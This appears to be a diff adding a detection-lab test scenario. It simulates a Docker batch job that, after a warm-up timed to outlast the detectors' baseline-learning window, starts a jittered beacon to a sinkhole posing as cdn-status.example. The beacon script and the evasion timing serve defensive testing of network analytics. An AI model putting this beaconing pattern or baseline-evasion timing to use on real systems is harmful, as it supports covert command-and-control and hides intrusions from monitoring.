@@ -1,0 +1,58 @@
+"""A quiet batch service, after its warm-up, starts calling an outside endpoint at a jittered interval."""
+
+from __future__ import annotations
+
+import time
+
+from lab import Lab, WorkloadSpec
+from scenarios.api import Expectation, Kind, Scenario
+
+# The detectors learn a new service's peers during its first 10 s (detectors/policy/network_baselines.yaml):
+# the batch job runs its usual work for longer than that before the implant wakes up.
+WARM_UP_S = 13
+JOB = ("python3", "-c", "import random,socket,sys,time\n"
+       "while True:\n"
+       "    try:\n"
+       "        s=socket.create_connection((sys.argv[1],5432),timeout=2); s.sendall(b'SELECT 1;\\n'); s.close()\n"
+       "    except OSError: pass\n"
+       "    time.sleep(random.uniform(2.0,3.5))\n")
+BEACON = ("import random,socket,sys,time\n"
+          "for i in range(20):\n"
+          "    try:\n"
+          "        s=socket.create_connection((sys.argv[1],443),timeout=2)\n"
+          "        s.sendall(b'GET /tasks?id=%d HTTP/1.1\\r\\nHost: cdn-status.example\\r\\n\\r\\n' % i)\n"
+          "        s.recv(256); s.close()\n"
+          "    except OSError: pass\n"
+          "    time.sleep(1.5*random.uniform(0.7,1.3))\n")
+
+
+class BatchBeacon(Scenario):
+    id = "docker.network.batch-beacon"
+    title = "Quiet batch service starts beaconing to an outside endpoint with jitter"
+    kind = Kind.ADVERSARY
+    techniques = ("T1071", "T1071.001")
+    backends = ("docker",)
+    expect = Expectation(fires=("stowaway.analytic.net-new-peer", "stowaway.analytic.net-beacon"), within_s=30)
+    twin = "docker.network.baselined-sync"
+    tags = ("network", "beacon", "baseline")
+    description = (
+        "Deploys a ledger database stand-in on the LAN (socat on 5432) and a batch job on the LAN and the lab "
+        "internet, labelled as the batch tier, whose normal work is to connect to the database every 2-3.5 s. "
+        f"After a {WARM_UP_S} s warm-up (the detectors learn the job's peers during its first 10 s), an implant "
+        "started in the container calls the sinkhole's port 443 every 1.5 s +-30 % with a small HTTP request, 20 "
+        "times. The scenario checks the sinkhole received at least three call-backs from the job's address."
+    )
+
+    def detonate(self, lab: Lab) -> None:
+        sink = lab.sinkhole.address
+        db = lab.deploy(WorkloadSpec(role="ledger-db", networks=("lan",), labels={"app": "ledger-db", "tier": "data"},
+                                     command=("socat", "-u", "TCP-LISTEN:5432,fork,reuseaddr", "OPEN:/dev/null")))
+        job = lab.deploy(WorkloadSpec(role="batch", networks=("lan", "inet"),
+                                      labels={"app": "ledger-close", "tier": "batch"},
+                                      command=(*JOB, db.addresses["lan"])))
+        time.sleep(WARM_UP_S)
+        lab.action("the batch job's implant starts beaconing")
+        lab.exec(job, "python3", "-c", BEACON, sink, detach=True)
+        source = job.addresses["inet"]
+        lab.wait_for(lambda: len([r for r in lab.sinkhole_records(peer=source) if r.get("port") == 443]) >= 3,
+                     timeout=15, what="three beacons to reach the sinkhole")
